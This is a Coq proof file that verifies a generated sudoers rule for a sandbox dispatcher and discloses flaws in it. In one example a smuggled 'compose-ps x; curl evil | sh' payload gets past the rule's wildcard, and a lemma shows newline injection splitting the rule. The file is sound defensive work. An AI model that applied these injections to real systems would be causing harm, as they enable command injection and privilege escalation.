    + destruct Hs as (text & Ht & ->). rewrite lookup_insert_eq in Ht. injection Ht as <-. split; [done|]. apply swp_ret; [done|].
      split_and!; [exists body; cbn; rewrite lookup_insert_eq; split_and!; tauto|done|].
      intros q Hq Hq'. cbn. by rewrite !lookup_insert_ne.
    + split; [done|]. destruct Hs as (f & -> & Hf). split_and!; [left; exists body; tauto|done|].
      intros q Hq Hq'. cbn. rewrite Hf by done. cbn. by rewrite lookup_insert_ne.
  - apply swp_ret; [done|]. split_and!; [right; cbn; by rewrite lookup_insert_ne|done|intros; cbn; by rewrite lookup_insert_ne].
Qed.

#[export] Instance l3_contract : PhaseContract rule_step (l3_body ctx) l3_converged.
Proof.
  split; cbn [l3_body body_probe body_act body_reverify].
  - intros s. unfold l3_probe. apply swp_expected; [done| |by intros ? ? [=]]. intros body Hb.
    apply (swp_tells true _ (ReadRule _) _ (rs_files s !! drop_in_path operator)); [done|done| |by intros ? ? ? [=]].
    destruct (rs_files s !! drop_in_path operator) as [text|] eqn:Ht; [|by apply swp_ret].
    destruct (String.eqb_spec text body) as [->|]; apply swp_ret; try done. intros detail _. by exists body.
  - intros faults s. unfold l3_reverify.
    apply (swp_tells faults _ (ReadRule _) _ (rs_files s !! drop_in_path operator)); [done|done| |by intros ? ? ? [=]].
    unfold l3_converged. destruct (rs_files s !! drop_in_path operator) as [text|] eqn:Ht.
    + apply swp_expected; [done| |by intros ? ? [=]]. intros body Hb. apply swp_ret; [done|]. intros v [= <-]. split.
      * intros ->%String.eqb_eq. by exists body.
      * intros _ (body' & Hb' & [= ->]). rewrite Hb in Hb'. injection Hb' as <-. apply String.eqb_refl.
    + apply swp_ret; [done|]. intros v [= <-]. split; [done|]. by intros _ (body & _ & ?).
  - intros s. eapply swp_mono, swp_l3_act. intros r s' _ [H [He _]] [detail ->]. destruct H as (body & Hb & _ & Hf).
    exists body. by rewrite He, expected_of_files.
Qed.

(** *** L3a and L8 *)

Context (exc_str : exn → string).

Definition op_passes (s : rstate) (op : Op) : Prop :=
  ∃ user out, owner_of s = Ok user ∧ rs_run s (probe_argv ctx user op) = Ok out.

Definition sweep_result (faults : bool) (s : rstate) (ops : list Op) {A} (r : res A) : Prop :=
  match r with
  | Ok _ => Forall (op_passes s) ops
  | Err _ => faults = true ∨ ∃ l1 op l2, ops = l1 ++ op :: l2 ∧ Forall (op_passes s) l1 ∧ ¬ op_passes s op
  end.

Lemma swp_classify faults s ops : swp (rule_step faults) (eq s) (for_each ops (classify_op exc_str ctx))
  (λ r _, sweep_result faults s ops r) s.
Proof.
  induction ops as [|op ops IH]; [by apply swp_ret; [|constructor]|]. cbn [for_each]. unfold classify_op.
  assert (Hfail : ∀ e : exn, faults = true ∨ ¬ op_passes s op → sweep_result (A := unit) faults s (op :: ops) (Err e)).
  { intros e [?|Hn]; [by left|]. right. exists [], op, ops. by split_and!; [|constructor|]. }
  apply swp_bind, swp_owner; [done| |].
  2: { intros e He. apply Hfail. destruct He as [?|He]; [by left|right]. intros (user & out & Hu & _). congruence. }
  intros user Hu. apply swp_retold; [done|..].
  - intros out Ho. eapply swp_mono, IH. intros r s' _ H. destruct r as [x|e].
    + constructor; [by exists user, out|done].
    + destruct H as [?|(l1 & op' & l2 & -> & H1 & H2)]; [by left|right]. exists (op :: l1), op', l2.
      split_and!; [done|constructor; [by exists user, out|done]|done].
  - intros e0. destruct (is_sandbox_execution_error e0); [|by apply swp_ret; eauto].
    apply (swp_tells _ _ SecurePathHost _ (rs_l0 s)); [done|done| |by eauto].
    apply swp_lift; [done| |by eauto]. intros x _. apply swp_ret; eauto.
  - intros e He. apply Hfail. destruct He as [?|He]; [by left|right]. intros (user' & out & Hu' & Ho).
    rewrite Hu in Hu'. injection Hu' as <-. by eapply He.
Qed.

Lemma swp_sweep faults s : swp (rule_step faults) (eq s) (sweep exc_str ctx) (λ r _, sweep_result faults s all_ops r) s.
Proof.
  unfold sweep. apply swp_bind. eapply swp_mono, swp_classify. intros [[]|e] s' <- H; [by apply swp_ret|done].
Qed.

Definition l3a_converged (s : rstate) : Prop := ∀ op, op_passes s op.

Lemma all_ops_all (P : Op → Prop) : Forall P all_ops ↔ ∀ op, P op.
Proof.
  rewrite Forall_forall. split; [|auto]. intros H op. apply H. destruct op; unfold all_ops; set_solver.
Qed.

#[export] Instance l3a_contract : PhaseContract rule_step (l3a_body exc_str ctx) l3a_converged.
Proof.
  split; cbn [l3a_body body_probe body_act body_reverify].
  - intros s. by apply swp_ret.
  - intros faults s. unfold l3a_reverify. apply swp_bind. eapply swp_mono, swp_sweep. intros [x|e] s' <- H.
    + apply swp_ret; [done|]. intros v [= <-]. split; [|done]. intros _. exact (proj1 (all_ops_all _) H).
    + by intros ? [=].
  - intros s. unfold l3a_act. eapply swp_inv_mono with (I := eq s); [done|]. eapply swp_mono, swp_sweep.
    intros [x|e] s' <- H [d [=]]. exact (proj1 (all_ops_all _) H).
Qed.

Definition in_bridge_group (s : rstate) : Prop :=
  ∃ gid out, rs_gid s (workspace_bridge_group settings) = Some gid ∧
    rs_run s (pipe_cmd operator ++ ["id"; "-G"])%list = Ok out ∧ str_of_Z gid ∈ split_ws out.
Definition dispatcher_answers (s : rstate) : Prop :=
  ∃ user out, owner_of s = Ok user ∧ rs_run s (auth_probe_argv ctx user) = Ok out.
Definition l8_converged (s : rstate) : Prop := in_bridge_group s ∧ dispatcher_answers s.

Lemma swp_group_set faults s : swp (rule_step faults) (eq s) (check_group_set exc_str ctx)
  (λ r s', s' = s ∧ match r with Ok _ => in_bridge_group s | Err _ => faults = true ∨ ¬ in_bridge_group s end) s.
Proof.
  unfold check_group_set, bridge_gid. apply swp_bind, (swp_tells _ _ (GroupGid _) _ (rs_gid s (workspace_bridge_group settings))); [done|done| |by auto].
  destruct (rs_gid s _) as [gid|] eqn:Hg.
  2: { apply swp_ret; [done|]. split; [done|]. right. intros (gid & out & Hg' & _). congruence. }
  apply swp_ret; [done|]. apply swp_bind, swp_catch, swp_perform; [done|]. intros [out|e] s' [-> H]; (split; [done|]).
  - case_bool_decide as Hin; apply swp_ret; try done; (split; [done|]).
    + by exists gid, out.
    + right. intros (gid' & out' & Hg' & Ho' & Hin'). rewrite Hg in Hg'. injection Hg' as <-. rewrite H in Ho'. by injection Ho' as <-.
  - assert (Hn : faults = true ∨ ¬ in_bridge_group s).
    { destruct H as [?|H]; [by left|right]. intros (gid' & out' & _ & Ho' & _). congruence. }
    destruct (is_sandbox_execution_error e); by apply swp_ret.
Qed.

Lemma swp_dispatcher_answers faults s : swp (rule_step faults) (eq s) (check_dispatcher_reachable exc_str ctx)
  (λ r s', s' = s ∧ match r with Ok _ => dispatcher_answers s | Err _ => faults = true ∨ ¬ dispatcher_answers s end) s.
Proof.
  unfold check_dispatcher_reachable. apply swp_owner; [done| |].
  2: { intros e He. split; [done|]. destruct He as [?|He]; [by left|right]. intros (user & out & Hu & _). congruence. }
  intros user Hu. apply swp_retold; [done|..].
  - intros out Ho. split; [done|]. by exists user, out.
  - intros e0. destruct (is_sandbox_execution_error e0); apply swp_ret; eauto.
  - intros e He. split; [done|]. destruct He as [?|He]; [by left|right]. intros (user' & out & Hu' & Ho).
    rewrite Hu in Hu'. injection Hu' as <-. by eapply He.
Qed.

Lemma swp_l8 faults s : swp (rule_step faults) (eq s) (l8_verify exc_str ctx)
  (λ r s', s' = s ∧ match r with Ok _ => l8_converged s | Err _ => faults = true ∨ ¬ l8_converged s end) s.
Proof.
  unfold l8_verify. apply swp_bind. eapply swp_mono, swp_group_set. intros [x|e] s' _ [-> Hg].
  2: { split; [done|]. destruct Hg as [?|Hg]; [by left|right]. by intros [? _]. }
  apply swp_bind. eapply swp_mono, swp_dispatcher_answers. intros [y|e] s' _ [-> Hd].
  - by apply swp_ret.
  - split; [done|]. destruct Hd as [?|Hd]; [by left|right]. by intros [_ ?].
Qed.

#[export] Instance l8_contract : PhaseContract rule_step (l8_body exc_str ctx) l8_converged.
Proof.
  split; cbn [l8_body body_probe body_act body_reverify].
  - intros s. by apply swp_ret.
  - intros faults s. unfold l8_reverify. apply swp_bind. eapply swp_mono, swp_l8. intros [x|e] s' <- [_ H].
    + apply swp_ret; [done|]. by intros v [= <-].
    + by intros ? [=].
  - intros s. eapply swp_inv_mono with (I := eq s); [done|]. eapply swp_mono, swp_l8.
    intros [x|e] s' _ [-> H] [d [=]]. done.
Qed.
End steps.
End host.

(** ** Properties *)

(** The star lies within the one argument of [bash -c]: with an operation that
    takes arguments the rule lets any further text through, other commands too. *)
Lemma any_tail_granted sudo_matches path user op rest : sudo_policy sudo_matches → str_forall spec_char path = true →
  plain_user user → no_arg op = false →
  granted sudo_matches (all_specs path user)
    (path :: crossing_words user (DISPATCH_BINARY +:+ " " +:+ op_value op +:+ " " +:+ rest)) = true.
Proof.
  intros Hpol Hp Hu Ha. apply rule_grants; [done..|]. exists op. eexists. split; [done|]. cbv zeta. rewrite Ha. exists rest.
  rewrite crossing_words_text. unfold crossing_text. by rewrite !app_assoc_str.
Qed.

(** C24: What the rule grants, exactly.  For a launcher path and an owner name
    of plain characters the drop-in is rendered, and under it [sudo] lets a
    command through exactly when it is the launcher crossing to that owner with
    the dispatcher and one enumerated operation as its text: alone or with
    [--check] for an operation that takes no argument, and with any further text
    for one that takes some.  The further text is not confined to arguments: it
    lies in the one argument of [bash -c], so a grant for such an operation lets
    any shell text that begins with the dispatcher and the operation through,
    further commands included, against the specification's claim that an
    arbitrary command is denied. *)
Theorem rule_grants_exactly sudo_matches path operator hostname user :
  sudo_policy sudo_matches → str_forall spec_char path = true → plain_user user →
  ∃ specs, render_sudoers_rule path operator hostname user = Ok (rule_body operator hostname specs) ∧
    (∀ argv, granted sudo_matches specs argv = true ↔ ∃ op, op_grants path user op argv) ∧
    ∀ op rest, no_arg op = false →
      granted sudo_matches specs
        (path :: crossing_words user (DISPATCH_BINARY +:+ " " +:+ op_value op +:+ " " +:+ rest)) = true.
Proof.
  intros Hpol Hp Hu. exists (all_specs path user). split_and!; [by apply render_eq| |].
  - intros argv. by apply rule_grants.
  - intros op rest Ho. by apply any_tail_granted.
Qed.

(** C25: The grant covers the crossing.  In separate-user mode, every argv that
    the framed and the streaming entry points build for an operation of
    validated arguments, every probe argv of the sweep and the one of the last
    check are [sudo] with the launcher and a crossing that the rendered rule
    grants once [sudo] has found the launcher at its path. *)
Theorem every_crossing_granted sudo_matches path user h cfg :
  sudo_policy sudo_matches → str_forall spec_char path = true → plain_user user →
  is_operator_rootless cfg = false → resolve_daemon_owner_settings h (HostConfig.host cfg) = Ok user →
  let crosses := λ argv prefix, ∃ crossing, argv = (prefix ++ "systemd-run" :: crossing)%list ∧
    granted sudo_matches (all_specs path user) (path :: crossing) = true in
  (∀ e op args argv, build_invocation h e op args cfg = Ok argv ∨ proxy_argv h e op args cfg = Ok argv →
     crosses argv ["sudo"]) ∧
  (∀ ctx op, ctx_config ctx = cfg →
     crosses (probe_argv ctx user op) ["sudo"; "-u"; ctx_operator ctx; "sudo"; "-n"] ∧
     crosses (auth_probe_argv ctx user) ["sudo"; "-u"; ctx_operator ctx; "sudo"; "-n"]).
Proof.
  intros Hpol Hp Hu Hm Hown crosses. split.
  - intros e op args argv Ha. destruct (build_invocation_suits h e op args cfg argv Hm Ha) as (r & wire & u & Hs & Hu' & ->).
    rewrite Hown in Hu'. injection Hu' as <-. eexists. split; [done|]. by apply suited_granted.
  - intros ctx op Hc. split; eexists; (split; [reflexivity|]).
    + apply (suited_granted _ Hpol path user op ["--check"]); [done..|]. unfold suits. destruct (no_arg op); [by right|done].
    + apply (suited_granted _ Hpol path user AUTH_PROBE []); [done..|]. by left.
Qed.

Inductive rule_phase_id := L3 | L3a | L8.

Section phases_spec.
Context (accepts : string → bool) (exc_str : exn → string) (ctx : SetupContext).

Definition rule_phase_body (p : rule_phase_id) : PhaseBody rule_answer :=
  match p with L3 => l3_body ctx | L3a => l3a_body exc_str ctx | L8 => l8_body exc_str ctx end.
Definition rule_phase_converged (p : rule_phase_id) : rstate → Prop :=
  match p with L3 => l3_converged ctx | L3a => l3a_converged ctx | L8 => l8_converged ctx end.

Lemma rule_phase_contract p : PhaseContract (rule_step accepts) (rule_phase_body p) (rule_phase_converged p).
Proof. destruct p; cbn; apply _. Qed.
End phases_spec.

(** C26: The phases of the rule.  A probe changes nothing, and what it calls
    correct is; an [act] that returns leaves the phase converged (the drop-in
    holds the rule of this host, every operation was let through, the operator
    is in the bridge group and reaches the dispatcher), and a reverify without
    a failing read then confirms it.  Whatever fails, the drop-in only ever
    receives a text that [visudo] accepted, and no other file but the staged
    one is written. *)
Theorem rule_phases_converge accepts exc_str ctx p s t0 v0 d0 s0 t1 detail s1 t2 v s2 t3 r3 s3 :
  let b := rule_phase_body exc_str ctx p in
  let good := rule_phase_converged ctx p in
  (runs (body_probe b) t0 (Ok (v0, d0)) → path (rule_step accepts true) s t0 s0 → s0 = s ∧ (v0 = ALREADY_CORRECT → good s)) ∧
  (runs (body_act b) t1 (Ok detail) → path (rule_step accepts true) s t1 s1 →
   runs (body_reverify b) t2 (Ok v) → path (rule_step accepts false) s1 t2 s2 → good s1 ∧ s2 = s1 ∧ v = true) ∧
  (runs (l3_act ctx) t3 r3 → path (rule_step accepts true) s t3 s3 → l3_post accepts ctx s r3 s3).
Proof.
  intros b good. pose proof (rule_phase_contract accepts exc_str ctx p) as Hc. split_and!.
  - by apply contract_probe.
  - by apply contract_runs.
  - intros Hr Hp. by apply (swp_post _ _ _ _ _ _ _ _ Hr Hp (swp_l3_act accepts ctx s)).
Qed.

(** A correct rule is not rolled back.  After L3 has installed the rule of
    a host, when the dispatcher answers each command the installed rule lets
    through, the sweep of L3a passes for every operation. *)
Theorem installed_rule_passes_sweep sudo_matches accepts exc_str ctx s t1 detail s1 t2 r s2 path_ user :
  sudo_policy sudo_matches → str_forall spec_char path_ = true → plain_user user →
  launcher_of (rs_l0 s) = Ok path_ → owner_of ctx s = Ok user →
  runs (l3_act ctx) t1 (Ok detail) → path (rule_step accepts true) s t1 s1 →
  (rs_files s1 !! drop_in_path (ctx_operator ctx) =
     Some (rule_body (ctx_operator ctx) (rs_hostname s) (all_specs path_ user)) → ∀ payload,
   granted sudo_matches (all_specs path_ user) (path_ :: crossing_words user payload) = true →
   ∃ out, rs_run s1 (as_operator ctx user payload) = Ok out) →
  runs (l3a_act exc_str ctx) t2 r → path (rule_step accepts false) s1 t2 s2 → s2 = s1 ∧ ∃ d, r = Ok d.
Proof.
  intros Hpol Hp Hu Hl Ho Hr1 Hp1 Hans Hr2 Hp2.
  destruct (swp_post _ _ _ _ _ _ _ _ Hr1 Hp1 (swp_l3_act accepts ctx s)) as [(body & Hb & _ & Hf) [Hs1 _]].
  assert (Ho1 : owner_of ctx s1 = Ok user) by (rewrite Hs1; exact Ho).
  unfold expected_of in Hb. rewrite Hl, Ho in Hb. cbn in Hb. rewrite render_eq in Hb by done. injection Hb as <-.
  destruct (swp_reads _ _ _ _ _ _ _ Hr2 Hp2 (swp_sweep accepts ctx exc_str false s1)) as [-> H]. split; [done|].
  destruct r as [d|e]; [by exists d|]. destruct H as [?|(l1 & op & l2 & _ & _ & Hn)]; [done|]. destruct Hn.
  destruct (Hans Hf (dispatch_payload (op_value op) ["--check"])) as [out Hout]; [|by exists user, out].
  apply suited_granted; [done..|]. unfold suits. destruct (no_arg op); [by right|done].
Qed.

(** ** A concrete policy and a concrete host *)

(** One that follows the two laws; a star is read only at the end. *)
Definition toy_sudo (spec : string) (argv : list string) : bool :=
  let '(cmd, _, rest) := partition_char " " spec in
  match argv with
  | [] => false
  | c :: args =>
      String.eqb c cmd &&
      if has_char "*" rest then startswith (unescape_ws (stake (str_len rest - 3) rest) +:+ " ") (join " " args)
      else String.eqb (join " " args) (unescape_ws rest)
  end.

Lemma has_star_unescape s : has_char "*" (unescape_ws s) = false → has_char "*" s = false.
Proof.
  enough (∀ n s, str_len s <= n → has_char "*" (unescape_ws s) = false → has_char "*" s = false) by eauto.
  clear s. unfold str_len. induction n as [|n IH]; intros [|c [|d s]] Hn; cbn in Hn; try done; try lia.
  cbn [unescape_ws]. destruct (Ascii.eqb_spec c "\") as [->|]; cbn [andb].
  - destruct (Ascii.eqb_spec d " ") as [->|].
    + intros H. apply (IH s); [lia|]. exact H.
    + intros [H1 H2]%orb_false_iff. apply orb_false_iff. split; [done|]. apply (IH (String d s)); [cbn; lia|done].
  - intros [H1 H2]%orb_false_iff. apply orb_false_iff. split; [done|]. apply (IH (String d s)); [cbn; lia|done].
Qed.

Lemma toy_policy : sudo_policy toy_sudo.
Proof.
  assert (Hsplit : ∀ cmd spec, str_forall spec_char cmd = true → partition_char " " (cmd +:+ " " +:+ spec) = (cmd, " ", spec)).
  { intros cmd spec Hc. apply (partition_char_app " " cmd spec). by eapply str_forall_no_char; [|exact Hc]. }
  split; intros cmd spec argv Hc Ht.
  - unfold toy_sudo. rewrite Hsplit by done.
    assert (Hs : has_char "*" spec = false) by (apply has_star_unescape; by eapply str_forall_no_char; [|exact Ht]).
    rewrite Hs. destruct argv as [|c args]; [split; [done|by intros (? & ? & _)]|].
    rewrite andb_true_iff, !String.eqb_eq. split; [intros [-> ?]; eauto|by intros (? & [= -> ->] & ?)].
  - unfold toy_sudo. rewrite Hsplit by done. rewrite has_char_app. change (has_char "*" "\ *") with true. rewrite orb_true_r.
    rewrite str_len_app. replace (str_len spec + str_len "\ *" - 3) with (str_len spec) by (cbn; lia). rewrite stake_app.
    destruct argv as [|c args]; [split; [done|by intros (? & ? & ? & _)]|].
    rewrite andb_true_iff, String.eqb_eq. split.
    + intros [-> (rest & Hr)%startswith_spec]. rewrite app_assoc_str in Hr. eauto.
    + intros (args' & rest & [= -> ->] & ->). split; [done|]. rewrite <- app_assoc_str. apply startswith_app.
Qed.

Lemma rule_grants_exactly_witness : ∃ specs,
  render_sudoers_rule "/usr/bin/systemd-run" "ann" "box" "sandbox" = Ok (rule_body "ann" "box" specs) ∧
  granted toy_sudo specs ["/usr/bin/systemd-run"; "-q"; "--pipe"; "--uid=sandbox"; "/bin/bash"; "-c";
    "/usr/local/libexec/sandbox-ai/dispatch auth-probe"] = true.
Proof.
  destruct (rule_grants_exactly toy_sudo "/usr/bin/systemd-run" "ann" "box" "sandbox" toy_policy) as (specs & Hb & Hg & _);
    [reflexivity|by split; vm_compute|].
  exists specs. split; [exact Hb|]. apply Hg. exists AUTH_PROBE. eexists. split; [reflexivity|]. left. reflexivity.
Defined.

Definition demo_rule_ctx : SetupContext := MkSetupContext demo_cfg "ann".

Lemma every_crossing_granted_witness : ∃ crossing,
  build_invocation demo_host demo_env "compose-up" ["web"] demo_cfg = Ok ("sudo" :: "systemd-run" :: crossing) ∧
  granted toy_sudo (all_specs "/usr/bin/systemd-run" "sandbox") ("/usr/bin/systemd-run" :: crossing) = true.
Proof.
  destruct (build_invocation demo_host demo_env "compose-up" ["web"] demo_cfg) as [argv|] eqn:E.
  2: { vm_compute in E. discriminate. }
  destruct (every_crossing_granted toy_sudo "/usr/bin/systemd-run" "sandbox" demo_host demo_cfg toy_policy) as [H _];
    [reflexivity|by split; vm_compute|reflexivity|reflexivity|].
  destruct (H demo_env "compose-up" ["web"] argv (or_introl E)) as (crossing & -> & Hg). exists crossing. by split.
Defined.

(** A host whose calls all succeed, and whose executor lets through what the
    rule on its disk grants. *)
Definition rule_machine (s : rstate) (c : rule_call) : res (rule_answer c) * rstate :=
  match c with
  | SecurePathHost => (Ok (rs_l0 s), s)
  | Hostname => (Ok (rs_hostname s), s)
  | RuleAccounts => (Ok (rs_env s), s)
  | ReadRule p => (Ok (rs_files s !! p), s)
  | Visudo p => (Ok (if bool_decide (is_Some (rs_files s !! p)) then 0%Z else 1%Z), s)
  | GroupGid g => (Ok (rs_gid s g), s)
  | Framed argv | Plain argv => (rs_run s argv, s)
  | WriteStaged p text => (Ok tt, with_rules (<[p := text]> (rs_files s)) s)
  | InstallRule _ src dst => match rs_files s !! src with
                             | Some text => (Ok tt, with_rules (<[dst := text]> (rs_files s)) s)
                             | None => (Err CalledProcessError, s)
                             end
  | RemoveRule p => (Ok tt, with_rules (delete p (rs_files s)) s)
  end.

Definition any_text (text : string) : bool := true.

Lemma rule_machine_step faults s c : rule_step any_text faults s c (rule_machine s c).1 (rule_machine s c).2.
Proof.
  destruct c; cbn; try done.
  - split; [done|]. unfold visudo_ok. by destruct (rs_files s !! p).
  - by destruct (rs_run s argv); cbn; auto.
  - by destruct (rs_run s argv); cbn; auto.
  - destruct (rs_files s !! src) as [text|] eqn:E; cbn; [by eauto|]. exists (rs_files s). by destruct s.
Qed.

Lemma rule_exec faults {A} (m : rule A) s r s' : (exec rule_machine m s).1.2 = r → (exec rule_machine m s).2 = s' →
  ∃ t, runs m t r ∧ path (rule_step any_text faults) s t s'.
Proof.
  intros <- <-. exists (exec rule_machine m s).1.1. split; [apply exec_runs|]. apply exec_path. apply rule_machine_step.
Qed.

Definition demo_rule_state : rstate := RState
  (L0Host None None None None (λ p, String.eqb p "/usr/bin/systemd-run") (λ p, Some (1, 1)%Z))
  "box" demo_host (λ _, Some 1000%Z)
  (λ argv, if bool_decide (head argv = Some "sudo") then Ok "" else Ok "27 1000") ∅.

Definition quiet (e : exn) : string := "".

Definition demo_text : string := rule_body "ann" "box" (all_specs "/usr/bin/systemd-run" "sandbox").
Definition after_l3 : rstate :=
  with_rules (<[drop_in_path "ann" := demo_text]> {[staged_path "ann" := demo_text]}) demo_rule_state.

Definition l3_message : string := "installed /etc/sudoers.d/sandbox-ai-machinectl-ann (mode 0440, validated)".

Lemma demo_l3 : ∃ t, runs (l3_act demo_rule_ctx) t (Ok l3_message) ∧
  path (rule_step any_text true) demo_rule_state t after_l3.
Proof.
  apply rule_exec; vm_compute; reflexivity.
Qed.

Lemma rule_phases_converge_witness : ∃ s1, l3_converged demo_rule_ctx s1 ∧ rs_files s1 !! drop_in_path "ann" = Some demo_text.
Proof.
  destruct demo_l3 as (t & Hr & Hp). exists after_l3.
  destruct (rule_exec false (l3_reverify demo_rule_ctx) after_l3 (Ok true) after_l3) as (t2 & Hr2 & Hp2);
    [vm_compute; reflexivity..|].
  destruct (rule_phases_converge any_text quiet demo_rule_ctx L3 demo_rule_state [] MISSING "" demo_rule_state
    t l3_message after_l3 t2 true after_l3 [] (Ok "") after_l3) as (_ & H & _).
  destruct (H Hr Hp Hr2 Hp2) as [Hc _]. split; [exact Hc|reflexivity].
Defined.

Lemma installed_rule_passes_sweep_witness : ∃ t2 d, runs (l3a_act quiet demo_rule_ctx) t2 (Ok d).
Proof.
  destruct demo_l3 as (t & Hr & Hp).
  destruct (rule_exec false (l3a_act quiet demo_rule_ctx) after_l3 _ _ eq_refl eq_refl) as (t2 & Hr2 & Hp2). exists t2.
  destruct (installed_rule_passes_sweep toy_sudo any_text quiet demo_rule_ctx demo_rule_state t l3_message after_l3 t2
    (exec rule_machine (l3a_act quiet demo_rule_ctx) after_l3).1.2 (exec rule_machine (l3a_act quiet demo_rule_ctx) after_l3).2
    "/usr/bin/systemd-run" "sandbox" toy_policy) as [_ [d Hd]];
    [reflexivity|by split; vm_compute|vm_compute; reflexivity|reflexivity|exact Hr|exact Hp| |exact Hr2|exact Hp2|].
  - intros _ payload _. exists "". reflexivity.
  - exists d. rewrite Hd in Hr2. exact Hr2.
Defined.

(** ** What the model shows *)

Example another_command_granted : granted toy_sudo (all_specs "/usr/bin/systemd-run" "sandbox")
  ("/usr/bin/systemd-run" :: crossing_words "sandbox" (DISPATCH_BINARY +:+ " compose-ps x; curl evil | sh")) = true.
Proof. vm_compute. reflexivity. Qed.

(** A last newline passes the guard of the renderer and breaks the rule in two. *)
Lemma newline_reaches_rule : ∃ body, render_sudoers_rule "/usr/bin/systemd-run" "ann" "box" ("sandbox" +:+ NL) = Ok body ∧
  contains ("--uid=sandbox" +:+ NL) body = true.
Proof. eexists. split; [vm_compute; reflexivity|]. vm_compute. reflexivity. Qed.
